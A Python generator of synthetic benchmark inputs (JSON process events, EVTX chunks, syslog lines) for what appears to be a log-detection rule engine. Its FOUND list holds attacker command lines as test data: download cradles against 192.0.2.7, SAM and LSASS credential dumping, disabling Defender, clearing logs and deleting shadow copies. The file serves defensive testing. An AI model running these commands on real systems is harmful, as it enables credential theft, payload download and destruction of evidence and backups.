# SPDX-License-Identifier: Apache-2.0
"""Small generated inputs whose instructions are counted: the same bytes on every run and every machine."""
import json
import random

import data

CHUNK, CHUNK_HEADER = 65536, 512
EVTX_PROCESS_FIELDS = ("NewProcessName", "CommandLine", "ParentProcessName", "SubjectUserName", "SubjectDomainName", "NewProcessId")


def write_json(path, n):
    data.write_unique(path, n)


def write_process(f, rnd, i, changed):
    """A process creation whose values never come again. changed(event) sets what the workload is about."""
    service, channel, event_id, category, fields = data.UNIQUE_KINDS[0]
    e = {"Channel": channel, "EventID": event_id, "EventRecordID": i + 1, "Computer": "host%05x" % rnd.getrandbits(20), "UtcTime": "2026-11-26 09:00:00.%06d" % i}
    e.update({k: data.unique_value(rnd, k) for k in fields})
    changed(e)
    e.update({"product": "windows", "service": service, "category": category})
    f.write(json.dumps(e, separators=(",", ":")) + "\n")


def write_hostile(path, n):
    """Process creations of which nine in ten have a command line that patterns with nested repetitions go back over without end; now and then one that shipped rules find."""
    rnd = random.Random(20261126)

    def changed(e):
        if i % 100 == 50:
            e["CommandLine"] = f"wbadmin delete catalog -quiet {i}"
        elif i % 10:
            e["CommandLine"] = "a" * rnd.randint(200, 2000) + f"{i}!"

    with open(path, "w") as f:
        for i in range(n):
            write_process(f, rnd, i, changed)


# What shipped rules find, by one selection and by several, by literals and by patterns.
FOUND = (
    ("wbadmin.exe", "wbadmin delete catalog -quiet {}"),
    ("reg.exe", r"reg save HKLM\SAM C:\Backup\{}.sav /y"),
    ("powershell.exe", "powershell -Command Set-MpPreference -DisableRealtimeMonitoring $true; {}"),
    ("powershell.exe", "powershell -NoProfile IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/{}')"),
    ("wevtutil.exe", "wevtutil cl Security /bu:{}"),
    ("rundll32.exe", r"rundll32 C:\Windows\System32\comsvcs.dll MiniDump {} C:\Backup\l.dmp full"),
    ("schtasks.exe", r"schtasks /create /tn {} /sc onlogon /tr C:\Users\Public\u.exe"),
    ("vssadmin.exe", "vssadmin delete shadows /all /quiet {}"),
    ("certutil.exe", "certutil -urlcache -split -f http://192.0.2.7/{} u.exe"),
)
OTHER_VOWELS = str.maketrans("aeiouAEIOU", "eiouaEIOUA")


def write_found(path, n, found=True):
    """Process creations that shipped rules find, each another one than the one before; not found: the same but for the vowels of their command lines."""
    rnd = random.Random(20261126)

    def changed(e):
        image, command = FOUND[i % len(FOUND)]
        e["Image"], e["CommandLine"] = "C:\\Windows\\System32\\" + image, command.format("%08x" % rnd.getrandbits(32))
        if not found:
            e["CommandLine"] = e["CommandLine"].translate(OTHER_VOWELS)

    with open(path, "w") as f:
        for i in range(n):
            write_process(f, rnd, i, changed)


# ---- event logs ----------------------------------------------------------------------------------------------------------------------------


class EvtxChunk:
    """One chunk: its first record brings the template, the others refer to it, as Windows writes them."""

    def __init__(self):
        self.b = bytearray(b"ElfChnk\0" + bytes(CHUNK_HEADER - 8))
        self.b[40:44] = (128).to_bytes(4, "little")
        self.template = None

    def number(self, value, size):
        self.b += value.to_bytes(size, "little")

    def name(self, text):
        self.number(len(self.b) + 4, 4)
        self.b += bytes(6) + len(text).to_bytes(2, "little") + text.encode("utf-16-le") + bytes(2)

    def text(self, text):
        self.b += b"\x05\x01" + len(text).to_bytes(2, "little") + text.encode("utf-16-le")

    def element(self, name, content, attribute=None):
        """content: a text, the number of a value, or a list of elements; attribute: a name and its text."""
        self.b += (b"\x41" if attribute else b"\x01") + b"\xff\xff" + bytes(4)
        self.name(name)
        if attribute:
            self.b += bytes(4) + b"\x06"
            self.name(attribute[0])
            self.text(attribute[1])
        self.b += b"\x02"
        if isinstance(content, int):
            self.b += b"\x0d" + content.to_bytes(2, "little") + b"\x01"
        elif isinstance(content, str):
            self.text(content)
        else:
            for one in content:
                self.element(*one)
        self.b += b"\x04"

    def put_template(self):
        self.template = len(self.b) + 4
        self.number(self.template, 4)
        self.b += bytes(4) + bytes(range(16))
        size_at = len(self.b)
        self.b += bytes(4) + b"\x0f\x01\x01\x00"
        fields = [("Data", i, ("Name", f)) for i, f in enumerate(EVTX_PROCESS_FIELDS)]
        system = [("Provider", "", ("Name", "Microsoft-Windows-Security-Auditing")), ("EventID", "4688"), ("Channel", "Security"), ("Computer", "host.example")]
        self.element("Event", [("System", system), ("EventData", fields)])
        self.b += b"\0"
        self.b[size_at:size_at + 4] = (len(self.b) - size_at - 4).to_bytes(4, "little")

    def record(self, number, values):
        at = len(self.b)
        self.b += b"\x2a\x2a\0\0" + bytes(4) + number.to_bytes(8, "little") + (132000000000000000 + number * 10000000).to_bytes(8, "little") + b"\x0f\x01\x01\x00" + b"\x0c\x01" + bytes(4)
        if self.template is None:
            self.put_template()
        else:
            self.number(self.template, 4)
        self.number(len(values), 4)
        encoded = [v.encode("utf-16-le") for v in values]
        for e in encoded:
            self.b += len(e).to_bytes(2, "little") + b"\x01\0"
        for e in encoded:
            self.b += e
        self.b += b"\0"
        size = len(self.b) - at + 4
        self.number(size, 4)
        self.b[at + 4:at + 8] = size.to_bytes(4, "little")

    def bytes(self):
        self.b[48:52] = len(self.b).to_bytes(4, "little")
        return bytes(self.b) + bytes(CHUNK - len(self.b))


def write_evtx(path, n):
    rnd = random.Random(20261126)
    number = 0
    with open(path, "wb") as f:
        f.write((b"ElfFile\0" + bytes(24) + (128).to_bytes(4, "little")).ljust(4096, b"\0"))
        while number < n:
            chunk = EvtxChunk()
            while number < n and len(chunk.b) < CHUNK - 4000:
                number += 1
                kinds = ("Image", "CommandLine", "ParentImage", "User", "User", "ProcessId")
                chunk.record(number, [data.unique_value(rnd, k) for k in kinds])
            f.write(chunk.bytes())


# ---- syslog --------------------------------------------------------------------------------------------------------------------------------


def write_syslog(path, n):
    rnd = random.Random(20261126)
    shapes = ("sshd[{pid}]: Failed password for invalid user {word} from {ip} port {port} ssh2", "sshd[{pid}]: Accepted publickey for {word} from {ip} port {port} ssh2",
              "sudo: {word} : TTY=pts/1 ; PWD=/home/{word} ; USER=root ; COMMAND=/usr/bin/{word} --{word}", "CRON[{pid}]: (root) CMD (/usr/lib/{word}/{word})",
              "kernel: [{pid}.{port}] [UFW BLOCK] IN=eth0 OUT= MAC= SRC={ip} DST=198.51.100.2 LEN=60 PROTO=TCP SPT={port} DPT=22", "systemd[1]: Started {word} service.")
    with open(path, "w") as f:
        for i in range(n):
            s = rnd.choice(shapes).format(pid=rnd.randint(300, 32000), word=rnd.choice(data.WORDS) + str(rnd.randint(0, 99)), ip=f"192.0.2.{rnd.randint(1, 254)}", port=rnd.randint(1024, 65000))
            f.write(f"<{rnd.randint(0, 190)}>Mar {rnd.randint(1, 28):2} 09:{i // 60 % 60:02}:{i % 60:02} host{i % 7} {s}\n")
